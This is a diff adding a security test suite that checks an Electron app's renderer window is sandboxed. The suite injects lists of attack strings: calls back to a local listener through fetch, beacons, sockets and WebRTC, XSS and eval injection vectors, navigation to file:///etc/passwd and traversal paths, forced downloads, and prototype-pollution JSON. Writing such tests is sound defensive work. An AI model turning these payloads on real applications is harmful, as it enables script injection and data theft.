@@ -1,0 +1,367 @@
+import assert from 'node:assert/strict';
+import { createSocket } from 'node:dgram';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { setTimeout } from 'node:timers/promises';
+import { EVENT_NAMES, REQUEST_NAMES } from '../../common/ipc-names.ts';
+import { openAttackedServer, type AttackedServer } from './attacked-server.ts';
+import { isWineSuite, startSigma, type SigmaApp } from './sigma-app.ts';
+
+/** How long an attack is given to have an effect, in milliseconds. */
+const ATTACK_MS = 500;
+
+/** What a script that was smuggled into the page would try, to tell somebody elsewhere. */
+function callsHome({ tcpPort, udpPort }: AttackedServer): readonly string[] {
+  const home = `http://127.0.0.1:${tcpPort}`;
+  return [
+    `fetch('${home}/fetch')`,
+    `fetch('${home}/no-cors', { mode: 'no-cors', method: 'POST', body: 'text' })`,
+    `{ const request = new XMLHttpRequest(); request.open('GET', '${home}/xhr'); request.send(); }`,
+    `new WebSocket('ws://127.0.0.1:${tcpPort}/socket')`,
+    `new EventSource('${home}/events')`,
+    `navigator.sendBeacon('${home}/beacon', 'text')`,
+    `new Image().src = '${home}/image'`,
+    `new Audio('${home}/audio').play()`,
+    `new FontFace('stolen', 'url(${home}/font)').load()`,
+    `import('${home}/module.js')`,
+    `add('script', { src: '${home}/script.js' })`,
+    `add('link', { rel: 'stylesheet', href: '${home}/style.css' })`,
+    `add('link', { rel: 'prefetch', href: '${home}/prefetch' })`,
+    `add('link', { rel: 'preload', as: 'image', href: '${home}/preload' })`,
+    `add('link', { rel: 'modulepreload', href: '${home}/modulepreload.js' })`,
+    `add('link', { rel: 'preconnect', href: '${home}' })`,
+    `add('link', { rel: 'icon', href: '${home}/icon.png' })`,
+    `add('link', { rel: 'manifest', href: '${home}/manifest' })`,
+    `add('iframe', { src: '${home}/frame' })`,
+    `add('iframe', { srcdoc: '<img src="${home}/inner">' })`,
+    `add('object', { data: '${home}/object' })`,
+    `add('embed', { src: '${home}/embed' })`,
+    `add('webview', { src: '${home}/webview' })`,
+    `add('video', { src: '${home}/video', autoplay: true })`,
+    `add('meta', { httpEquiv: 'refresh', content: '0;url=${home}/refresh' })`,
+    `add('base', { href: '${home}/' })`,
+    `new Worker('${home}/worker.js')`,
+    `navigator.serviceWorker.register('/worker.js')`,
+    `new WebTransport('https://127.0.0.1:${udpPort}/transport')`,
+    `connectToPeer('turn:127.0.0.1:${tcpPort}?transport=tcp')`,
+    `connectToPeer('stun:127.0.0.1:${udpPort}')`,
+    `add('form', { action: '${home}/form', method: 'post' }).submit()`,
+    `add('a', { href: '${home}/link', ping: '${home}/ping' }).click()`,
+    `add('a', { href: '${home}/download', download: 'setup.exe' }).click()`,
+    `add('a', { href: '${home}/blank', target: '_blank' }).click()`,
+    `window.open('${home}/open')`,
+    `history.pushState(null, '', '${home}/history')`,
+    `location.href = '${home}/location'`,
+    `location.replace('${home}/replace')`,
+  ];
+}
+
+/** Begins with what the attacks have in common. Each runs by itself, whatever became of the others. */
+function attackScript(attacks: readonly string[]): string {
+  return `{
+    const add = (name, properties) => {
+      const element = document.createElement(name);
+      for (const [key, value] of Object.entries(properties)) {
+        if (key in element) element[key] = value; else element.setAttribute(key, value);
+      }
+      document.body.append(element);
+      return element;
+    };
+    const connectToPeer = async (urls) => {
+      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'b' }] });
+      peer.createDataChannel('text');
+      await peer.setLocalDescription(await peer.createOffer());
+    };
+    ${attacks.map((attack) => `setTimeout(async () => { ${attack} });`).join('\n')}
+  }`;
+}
+
+// With a real system behind it the window has tests of its own.
+if (!isWineSuite && process.platform !== 'win32') {
+  describe('the window is shut off from the world', { timeout: 120_000 }, () => {
+    let sigma: SigmaApp;
+    let address: string;
+
+    before(async () => {
+      sigma = await startSigma();
+      await sigma.page.addInitScript(
+        `globalThis.violations = [];
+         addEventListener('securitypolicyviolation', ({ violatedDirective }) => violations.push(violatedDirective));`,
+      );
+      await sigma.page.reload();
+      await sigma.untilShown('service', 'Running');
+      address = sigma.page.url();
+    });
+    after(() => sigma[Symbol.asyncDispose]());
+
+    /** The page is where it was, alone, and works. */
+    async function assertUnharmed(): Promise<void> {
+      assert.equal(sigma.page.url(), address);
+      assert.equal(sigma.page.context().pages().length, 1);
+      await sigma.page.reload();
+      await sigma.untilShown('service', 'Running');
+    }
+
+    it('needs nothing that its policy forbids', async () => {
+      assert.deepEqual(await sigma.page.evaluate('violations'), []);
+    });
+
+    it('reaches nobody on the network, whatever its page tries', async () => {
+      await using server = await openAttackedServer();
+      await fetch(`http://127.0.0.1:${server.tcpPort}/from-here`).catch(() => undefined);
+      const socket = createSocket('udp4');
+      socket.send('x', server.udpPort, '127.0.0.1');
+      await setTimeout(ATTACK_MS);
+      socket.close();
+      assert.deepEqual(server.arrived.toSorted(), ['GET /from-here HTTP/1.1', 'connection', 'datagram']);
+      server.arrived.length = 0;
+
+      await sigma.page.evaluate(attackScript(callsHome(server)));
+      await setTimeout(5 * ATTACK_MS);
+      assert.deepEqual(server.arrived, []);
+      await assertUnharmed();
+    });
+
+    it('runs no script that does not come with Sigma', async () => {
+      const injected = 'globalThis.injected.push';
+      await sigma.page.evaluate(`globalThis.injected = []`);
+      await sigma.page.evaluate(
+        attackScript([
+          `add('script', {}).append('${injected}("text")')`,
+          `add('script', { textContent: '${injected}("script")' })`,
+          `add('script', { src: 'data:text/javascript,${injected}("data")' })`,
+          `add('script', { src: URL.createObjectURL(new Blob(['${injected}("blob")'])) })`,
+          `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=${injected}(1)>')`,
+          `document.body.setAttribute('onclick', '${injected}("attribute")'); document.body.click()`,
+          `document.write('<script>${injected}("written")</' + 'script>')`,
+          `document.createRange().createContextualFragment('<img src=x onerror=${injected}(2)>')`,
+          `add('a', { href: 'javascript:${injected}("link")' }).click()`,
+          `location.href = 'javascript:${injected}("location")'`,
+          `add('iframe', { srcdoc: '<script>top.injected.push("frame")</' + 'script>' })`,
+          `add('iframe', { src: 'javascript:top.injected.push("frame")' })`,
+          `eval('${injected}("eval")')`,
+          `(0, eval)('${injected}("indirect eval")')`,
+          `new Function('${injected}("function")')()`,
+          `setTimeout('${injected}("timer")')`,
+          `import('data:text/javascript,${injected}("module")')`,
+          `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => ${injected}('worker')`,
+          `WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)).then(() => ${injected}('wasm'))`,
+        ]),
+      );
+      await setTimeout(ATTACK_MS);
+      assert.deepEqual(await sigma.page.evaluate('injected'), []);
+      await assertUnharmed();
+    });
+
+    it('takes no style that does not come with Sigma', async () => {
+      await sigma.page.evaluate(
+        attackScript([
+          `add('style', {}).append('body { outline: 7px solid red }')`,
+          `document.body.setAttribute('style', 'outline: 7px solid red')`,
+          `add('link', { rel: 'stylesheet', href: 'data:text/css,body { outline: 7px solid red }' })`,
+        ]),
+      );
+      await setTimeout(ATTACK_MS);
+      assert.notEqual(await sigma.page.evaluate('getComputedStyle(document.body).outlineWidth'), '7px');
+    });
+
+    it('has nothing of Node or Electron', async () => {
+      const names = [
+        'require',
+        'process',
+        'module',
+        'Buffer',
+        'global',
+        '__dirname',
+        'electron',
+        'ipcRenderer',
+      ];
+      const kinds = await sigma.page.evaluate(
+        `[${names.map((name) => `typeof globalThis.${name}`).join(', ')}]`,
+      );
+      assert.deepEqual(
+        kinds,
+        names.map(() => 'undefined'),
+      );
+      assert.equal(await sigma.page.evaluate(`'loadURL' in document.createElement('webview')`), false);
+    });
+
+    it('exposes the requests and events of the contract, and no more', async () => {
+      const names = await sigma.page.evaluate<string[]>('Object.keys(sigma).sort()');
+      const events = EVENT_NAMES.map((name) => `on${name.slice(0, 1).toUpperCase()}${name.slice(1)}`);
+      assert.deepEqual(names, [...REQUEST_NAMES, ...events].sort());
+    });
+
+    it('lets nobody replace what it exposes', async () => {
+      const changes = [
+        `sigma = {}`,
+        `window.sigma = {}`,
+        `delete window.sigma`,
+        `Object.defineProperty(window, 'sigma', { value: {} })`,
+        `sigma.perform = () => 'replaced'`,
+        `delete sigma.perform`,
+        `sigma.more = 1`,
+        `Object.setPrototypeOf(sigma, { more: 1 })`,
+      ];
+      for (const change of changes) {
+        await sigma.page.evaluate(`try { ${change} } catch {}`);
+        const after = `[typeof sigma.perform, String(sigma.perform).includes('replaced'), 'more' in sigma]`;
+        assert.deepEqual(await sigma.page.evaluate(after), ['function', false, false], change);
+      }
+    });
+
+    it('gives a frame inside of its page nothing', async () => {
+      await sigma.page.evaluate(`document.body.append(document.createElement('iframe'))`);
+      await setTimeout(ATTACK_MS);
+      assert.equal(await sigma.page.evaluate(`typeof frames[0].sigma`), 'undefined');
+    });
+
+    it('cannot open another window', async () => {
+      assert.equal(await sigma.page.evaluate(`window.open('https://example.com/')`), null);
+      await sigma.page.evaluate(
+        attackScript([
+          `add('a', { href: 'https://example.com/', target: '_blank' }).click()`,
+          `add('a', { href: '/index.html', target: '_blank' }).click()`,
+          `add('form', { action: '/index.html', target: '_blank' }).submit()`,
+        ]),
+      );
+      await setTimeout(ATTACK_MS);
+      await assertUnharmed();
+    });
+
+    it('cannot leave its page', async () => {
+      const elsewhere = [
+        'https://example.com/',
+        'app://elsewhere/index.html',
+        'app://sigma/main.js',
+        'app://sigma/../../package.json',
+        'file:///etc/passwd',
+        'data:text/html,elsewhere',
+        'chrome://version',
+        'view-source:app://sigma/index.html',
+        'javascript:void(document.title = 1)',
+        'ms-settings:',
+        'mailto:somebody@example.com',
+      ];
+      for (const where of elsewhere) {
+        await sigma.page.evaluate(`setTimeout(() => { location.href = ${JSON.stringify(where)}; })`);
+        await setTimeout(ATTACK_MS / 2);
+        assert.equal(sigma.page.url(), address, where);
+      }
+      await assertUnharmed();
+    });
+
+    it('goes nowhere when a file is dropped on it', async () => {
+      const folder = await mkdtemp(join(tmpdir(), 'sigma-dropped-'));
+      try {
+        const file = join(folder, 'dropped.html');
+        await writeFile(file, '<!doctype html><title>Dropped</title>');
+        const session = await sigma.page.context().newCDPSession(sigma.page);
+        const data = { items: [], files: [file], dragOperationsMask: 1 };
+        for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
+          await session.send('Input.dispatchDragEvent', { type, x: 300, y: 300, data });
+        }
+        await session.detach();
+        await setTimeout(ATTACK_MS);
+        assert.equal(await sigma.page.title(), 'Sigma');
+        await assertUnharmed();
+      } finally {
+        await rm(folder, { recursive: true });
+      }
+    });
+
+    // Where the main process does not refuse a download, the stand-in for Electron ends it, and Sigma is gone.
+    it('downloads nothing', async () => {
+      await sigma.page.evaluate(
+        attackScript([
+          `add('a', { href: URL.createObjectURL(new Blob(['text'])), download: 'setup.exe' }).click()`,
+          `add('a', { href: 'data:application/octet-stream,text', download: 'setup.exe' }).click()`,
+          `add('a', { href: '/index.html', download: 'setup.exe' }).click()`,
+        ]),
+      );
+      await setTimeout(2 * ATTACK_MS);
+      await assertUnharmed();
+    });
+
+    it('is granted no permission', async () => {
+      const names = [
+        'camera',
+        'clipboard-read',
+        'geolocation',
+        'idle-detection',
+        'local-fonts',
+        'microphone',
+        'midi',
+        'notifications',
+        'persistent-storage',
+        'screen-wake-lock',
+        'window-management',
+      ];
+      const states = await sigma.page.evaluate(
+        `Promise.all(${JSON.stringify(names)}.map((name) =>
+          navigator.permissions.query({ name }).then(({ state }) => state)))`,
+      );
+      assert.deepEqual(
+        states,
+        names.map(() => 'denied'),
+      );
+    });
+
+    it('gets nothing that takes a permission', async () => {
+      // Where there is no camera and no microphone, nobody is asked for them.
+      const noMedia = /^(NotAllowedError|NotFoundError)$/;
+      const refusals: readonly (readonly [request: string, refusal: RegExp])[] = [
+        [`navigator.mediaDevices.getUserMedia({ audio: true })`, noMedia],
+        [`navigator.mediaDevices.getUserMedia({ video: true })`, noMedia],
+        [`navigator.clipboard.readText()`, /^NotAllowedError$/],
+        [`navigator.requestMIDIAccess()`, /^NotAllowedError$/],
+        [`Notification.requestPermission().then((state) => Promise.reject({ name: state }))`, /^denied$/],
+        [
+          `new Promise((_, no) => navigator.geolocation.getCurrentPosition(no, ({ code }) => no({ name: code })))`,
+          /^1$/,
+        ],
+      ];
+      for (const [request, refusal] of refusals) {
+        const result = await sigma.page.evaluate<string>(
+          `${request}.then(() => 'granted', ({ name }) => String(name))`,
+        );
+        assert.match(result, refusal, request);
+      }
+    });
+
+    it('gets an answer, not an exception, for a request that makes no sense', async () => {
+      for (const argument of [`'format'`, '{}', 'undefined', '["install"]', '7']) {
+        const answer = await sigma.page.evaluate<{ ok: boolean; error?: { name: string } }>(
+          `sigma.perform(${argument})`,
+        );
+        assert.equal(answer.ok, false, argument);
+        assert.equal(answer.error?.name, 'ERROR_INVALID_PARAMETER', argument);
+      }
+      const snapshot = await sigma.page.evaluate<{ ok: boolean }>(`sigma.snapshot('unexpected')`);
+      assert.equal(snapshot.ok, false);
+    });
+
+    it('changes nothing of the main process through prototypes', async () => {
+      const polluted = `JSON.parse('{"__proto__":{"theme":"dark"},"constructor":{"prototype":{"theme":"dark"}}}')`;
+      const theme = 'sigma.snapshot().then(({ value }) => value.view.settings.theme)';
+      const before = await sigma.page.evaluate(theme);
+      await sigma.page.evaluate(`sigma.changeSettings(${polluted})`);
+      await sigma.page.evaluate(`sigma.reportWindows(${polluted})`);
+      assert.equal(await sigma.page.evaluate(theme), before);
+      await assertUnharmed();
+    });
+
+    // The browser asks nobody about an empty page. Whether it gets there or not, nothing answers it.
+    it('is answered no more once its page is another one', async () => {
+      await sigma.page.evaluate(`setTimeout(() => { location.href = 'about:blank'; })`);
+      await setTimeout(ATTACK_MS);
+      if (sigma.page.url() !== address) {
+        await assert.rejects(sigma.page.evaluate(`sigma.perform('stop')`), /not Sigma's: perform/);
+        await sigma.page.goBack();
+      }
+      await assertUnharmed();
+    });
+  });
+}
